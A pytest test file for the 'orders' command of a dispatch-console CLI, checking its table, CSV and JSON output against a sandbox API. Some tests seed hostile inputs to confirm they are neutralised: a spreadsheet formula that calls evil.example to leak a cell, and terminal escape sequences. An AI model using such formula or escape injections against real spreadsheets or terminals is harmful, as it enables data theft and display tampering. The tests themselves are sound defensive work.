"""``dispatch-console orders`` against the sandbox over real loopback HTTP: which orders it lists,
the risk marker and badges, aligned columns, CSV (with formula cells neutralised) and JSON lines
faithful to the API's bytes. What the server received is read from ``sandbox.stats``."""

from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import datetime, timezone
from urllib.parse import parse_qs

import httpx
import pytest

from console.api import OrdersClient
from console.api.summaries import OrderSummary
from console.api.vocab import RISK_KEY_NAMES, RISK_KEYS, OrderRef, RiskLevel, risk_level, worst_risk
from console.bulk import headless
from console.orders_command import CSV_HEADER, TABLE_COLUMNS, add_orders_arguments, run_orders, table_header, table_row
from console.risk_marks import MARKERS
from console.ui.badges import badge_char
from console.ui.text import risk_glyph
from tests.support.sandbox_fixtures import ServedSandbox, served_sandbox  # noqa: F401 - fixture

TERMINAL = {"completed", "cancelled"}


class Captured:
    def __init__(self, encoding: str = "utf-8") -> None:
        self.stdout = io.TextIOWrapper(io.BytesIO(), encoding=encoding, write_through=True)
        self.stderr = io.StringIO()

    @property
    def out(self) -> str:
        self.stdout.flush()
        return self.stdout.buffer.getvalue().decode(self.stdout.encoding)

    @property
    def err(self) -> str:
        return self.stderr.getvalue()


def run(served: ServedSandbox, argv: list[str], encoding: str = "utf-8") -> tuple[int, Captured]:
    parser = argparse.ArgumentParser(prog="dispatch-console orders")
    add_orders_arguments(parser)
    args = parser.parse_args(argv)
    sb = served.sandbox
    cap = Captured(encoding)
    code = run_orders(args, client_factory=lambda: OrdersClient(sb.credentials, base_url=served.base_url),
                      stdout=cap.stdout, stderr=cap.stderr)
    return code, cap


def list_queries(sb) -> list[dict[str, list[str]]]:
    return [parse_qs(r.query) for r in sb.stats.snapshot() if r.raw_path == "/orders/"]


def wire_items(served: ServedSandbox, **params) -> list[dict]:
    """The list items exactly as the sandbox sends them (plain httpx, json)."""
    creds = served.sandbox.credentials
    items: list[dict] = []
    with httpx.Client(base_url=served.base_url, auth=(creds.account_id, creds.secret_key.get_secret_value())) as http:
        query = dict(params, limit=1000)
        while True:
            body = http.get("/orders/", params=query).json()
            items.extend(body["orders"])
            if not body.get("pagination_token"):
                return items
            query["pagination_token"] = body["pagination_token"]


def expected_badges(risks) -> str:
    return "".join(badge_char(letter, risk_level(risks, key)) for key, letter, _ in RISK_KEYS)


def column_starts(header: str) -> list[int]:
    starts, at = [], 0
    for name, width in TABLE_COLUMNS:
        starts.append(header.index(name, at))
        at = starts[-1] + len(name)
    return starts


def test_the_command_still_lives_where_the_cli_finds_it() -> None:
    assert headless.run_orders is run_orders and headless.add_orders_arguments is add_orders_arguments


def test_the_markers_are_the_screens() -> None:
    for level in RiskLevel:
        assert MARKERS[level] == risk_glyph(level)


def test_by_default_the_open_orders_with_marker_and_badges_as_on_screen(served_sandbox) -> None:
    sb = served_sandbox.sandbox
    code, cap = run(served_sandbox, [])
    assert code == 0, cap.err
    header, *rows = cap.out.splitlines()
    truth = {(o.handle, f"{o.type}#{o.type_index} a{o.attempt}"): o for o in sb.orders() if o.status not in TERMINAL}
    assert len(rows) == len(truth) == int(cap.err.split()[0])
    assert f"{len(truth)} order(s)" in cap.err
    starts = column_starts(header)
    order_at, status_at, leg_at, worker_at = starts[2:6]
    seen = set()
    for row in rows:
        key = (row[order_at:status_at].rstrip(), row[leg_at:worker_at].rstrip())
        o = truth[key]
        seen.add(key)
        assert row[0] == MARKERS[worst_risk(o.risks)]
        assert row[starts[1]:starts[1] + 8] == expected_badges(o.risks)
        assert row[status_at:leg_at].rstrip() == o.status
    assert seen == set(truth)
    assert any(" dispatched " in row for row in rows)
    # `dispatched` cannot be filtered: the server filters the statuses it can name, and the
    # others come from a query without a status filter, bounded to the recent orders.
    queries = list_queries(sb)
    assert all("dispatched" not in q.get("status", [""])[0] for q in queries)
    assert all("created_at_from" in q for q in queries if "status" not in q)


def test_every_column_starts_under_its_header(served_sandbox) -> None:
    sb = served_sandbox.sandbox
    sb.add_order("ORD-with-a-handle-far-longer-than-its-column-0001", status="ongoing", type="pick", type_index=12,
                  attempt=3)
    code, cap = run(served_sandbox, ["--all"])
    assert code == 0
    header, *rows = cap.out.splitlines()
    assert header.split() == ["!", *[name for name, _ in TABLE_COLUMNS[1:]]]
    starts = column_starts(header)
    assert len(rows) == len(sb.orders())
    for row in rows:
        for start in starts[1:]:
            assert row[start - 2:start] == "  ", (row, start)  # the gap before each column
            assert row[start] != " " or start == starts[1], (row, start)  # its value starts there
    long_row = next(r for r in rows if "ORD-with-a-handle" in r)
    assert "…" in long_row and "pick#12 a3" in long_row


def test_wide_characters_and_long_values_keep_the_columns() -> None:
    order = OrderSummary(OrderRef("ORD-1", "drop", 0, 0), "ongoing", worker="山田太郎-配達員-東京都-渋谷区",
                         ops_group="grp", scheduled_at=datetime(2026, 11, 29, 18, 30, tzinfo=timezone.utc),
                         risks={key: "green" for key in RISK_KEY_NAMES})
    header, row = table_header(), table_row(order)
    starts = column_starts(header)
    worker_at, group_at = starts[5], starts[6]
    cells = 0
    for index, ch in enumerate(row):
        if cells == group_at:
            assert row[index:].startswith("grp"), row
            break
        cells += 2 if "\u4e00" <= ch <= "\u9fff" else 1
    else:
        raise AssertionError(f"the ops group is not at cell {group_at}: {row!r}")
    assert row[worker_at:].startswith("山田太郎")


def test_status_and_all_choose_other_orders(served_sandbox) -> None:
    sb = served_sandbox.sandbox
    code, cap = run(served_sandbox, ["--status", "completed", "--json"])
    assert code == 0
    got = [json.loads(line) for line in cap.out.splitlines()]
    assert {d["status"] for d in got} == {"completed"} and len(got) == len(sb.orders("completed"))
    assert list_queries(sb)[-1]["status"] == ["completed"]
    code, cap = run(served_sandbox, ["--all", "--json"])
    assert len(cap.out.splitlines()) == len(sb.orders())
    code, cap = run(served_sandbox, ["--status", "dispatched,ongoing", "--json"])
    got = [json.loads(line) for line in cap.out.splitlines()]
    assert {d["status"] for d in got} == {"dispatched", "ongoing"}
    code, cap = run(served_sandbox, ["--status", "teleported"])
    assert code == 2 and "unknown status" in cap.err and "Traceback" not in cap.err


def test_csv_a_header_row_one_order_a_line_risks_as_words(served_sandbox) -> None:
    sb = served_sandbox.sandbox
    code, cap = run(served_sandbox, ["--csv"])
    assert code == 0
    lines = cap.out.splitlines()
    table = list(csv.reader(io.StringIO(cap.out)))
    assert table[0] == list(CSV_HEADER) and len(table) == len(lines)
    truth = {(o.handle, o.type, str(o.type_index), str(o.attempt)): o for o in sb.orders() if o.status not in TERMINAL}
    assert len(table) - 1 == len(truth)
    column = {name: index for index, name in enumerate(CSV_HEADER)}
    for row in table[1:]:
        o = truth[tuple(row[column[name]] for name in ("order_handle", "type", "type_index", "fulfillment_attempt"))]
        assert row[column["status"]] == o.status
        assert row[column["worst_risk"]] == worst_risk(o.risks).name.lower()
        for key in RISK_KEY_NAMES:
            assert row[column[key]] == o.risks[key] and row[column[key]] in ("red", "yellow", "green")
        assert row[column["fulfillment_attempt"]] == str(o.attempt)


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(served_sandbox, start) -> None:
    sb = served_sandbox.sandbox
    handle = f'{start}HYPERLINK("http://evil.example/?x="&A1)'
    sb.add_order(handle, status="ongoing")
    code, cap = run(served_sandbox, ["--csv", "--search", "HYPERLINK"])
    assert code == 0
    table = list(csv.reader(io.StringIO(cap.out)))
    assert [row[0] for row in table[1:]] == ["'" + handle]


def test_json_lines_are_the_api_data_exactly_and_text_shows_escapes(served_sandbox) -> None:
    sb = served_sandbox.sandbox
    esc = sb.add_order("ESC-\x1b[2J-real", status="ongoing", metadata={"note": "bell\x07 \u202e rtl"})
    esc.address = "1 Main St\x1b]0;pwned\x07"
    literal = sb.add_order("ESC-\\x1b[2J-literal", status="ongoing")
    literal.address = "1 Main St\\x1b]0;pwned\\x07"
    for o in (esc, literal):
        o.touch()
    code, cap = run(served_sandbox, ["--json", "--search", "ESC-"])
    assert code == 0
    out = cap.out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out  # JSON escaped them
    got = [json.loads(line) for line in out.splitlines()]
    wire = {i["order_handle"]: i for i in wire_items(served_sandbox, search_term="ESC-")}
    assert len(got) == 2
    for item in got:
        assert item == wire[item["order_handle"]]  # every field as the API sent it
    by_handle = {i["order_handle"]: i for i in got}
    real, lit = by_handle["ESC-\x1b[2J-real"], by_handle["ESC-\\x1b[2J-literal"]
    assert real["destination"]["address"] == "1 Main St\x1b]0;pwned\x07"
    assert lit["destination"]["address"] == "1 Main St\\x1b]0;pwned\\x07"
    assert real["metadata"]["note"] == "bell\x07 \u202e rtl"
    # The table and the CSV show visible escapes, never the raw characters.
    for form in ([], ["--csv"]):
        code, cap = run(served_sandbox, [*form, "--search", "ESC-"])
        assert code == 0 and "\x1b" not in cap.out and "\x07" not in cap.out
        assert "ESC-\\x1b[2J-real" in cap.out


def test_an_ascii_terminal_gets_ascii_marks_and_nothing_is_lost(served_sandbox) -> None:
    sb = served_sandbox.sandbox
    code, cap = run(served_sandbox, [], encoding="ascii")
    assert code == 0
    header, *rows = cap.out.splitlines()
    assert len(rows) == len([o for o in sb.orders() if o.status not in TERMINAL])
    assert all(row[0] in "#^-?" for row in rows)
    assert all(row.isascii() for row in rows)
